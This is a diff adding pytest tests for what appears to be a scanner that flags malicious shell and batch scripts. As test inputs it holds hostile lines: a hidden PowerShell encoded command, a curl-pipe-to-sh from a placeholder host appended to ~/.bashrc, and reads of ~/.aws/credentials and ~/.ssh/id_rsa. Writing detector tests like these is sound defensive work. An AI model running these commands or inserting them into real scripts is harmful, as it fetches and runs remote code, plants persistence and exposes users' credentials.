@@ -84,3 +84,29 @@ def test_powershell_started_from_a_batch_file_with_an_encoded_command_is_decoded
     source = f"@echo off\npowershell -NoP -W Hidden -EncodedCommand {encoded}\n"
     errors = scan_errors(tmp_path, {"scripts/fix.cmd": source})
     assert {("OBFUSCATED_PAYLOAD", "scripts/fix.cmd", 2), ("DOWNLOAD_AND_RUN", "scripts/fix.cmd", 2)} <= errors
+
+
+def test_escapes_inside_double_quotes_are_read_as_the_shell_reads_them(tmp_path: Path) -> None:
+    source = (
+        'name=$(basename "$SHELL")\nline="eval \\"\\$(starship init ${name})\\""\necho "$line" >> "$HOME/.${name}rc"\n'
+    )
+    assert not {c for c in analyse_file(tmp_path, "scripts/prompt.sh", source, Language.SHELL)}
+    source = 'echo "curl -s \\"https://p.example.invalid/x\\" | sh" >> ~/.bashrc\n'
+    found = analyse_file(tmp_path, "scripts/prompt.sh", source, Language.SHELL)
+    assert chain(found, Kind.PERSISTENCE) == [
+        (1, 'writes a shell start-up file (~/.bashrc): curl -s "https://p.example.invalid/x" | sh')
+    ]
+
+
+def test_a_grep_pattern_that_names_a_secret_path_is_not_a_read_of_it(tmp_path: Path) -> None:
+    source = "for p in '\\.ssh/id_' '\\.aws/credentials'; do grep -rnE -- \"$p\" src; done\n"
+    assert not analyse_file(tmp_path, "scripts/audit.sh", source, Language.SHELL)
+    source = "grep -e aws_secret_access_key ~/.aws/credentials\nawk '{print}' ~/.ssh/id_rsa\n"
+    found = analyse_file(tmp_path, "scripts/audit.sh", source, Language.SHELL)
+    assert {d for k, d in summary(found) if k is Kind.SECRET_READ} == {"AWS credentials (~/.aws)", "SSH keys (~/.ssh)"}
+
+
+def test_a_download_elided_to_an_ellipsis_fetches_nothing_but_an_address_beside_it_does(tmp_path: Path) -> None:
+    assert not analyse_file(tmp_path, "scripts/doc.sh", "curl ... | sh\nwget … -O- | bash\n", Language.SHELL)
+    found = analyse_file(tmp_path, "scripts/doc.sh", "curl ... https://d.example.invalid/i | sh\n", Language.SHELL)
+    assert (Kind.EXEC_FETCHED, "d.example.invalid") in summary(found)
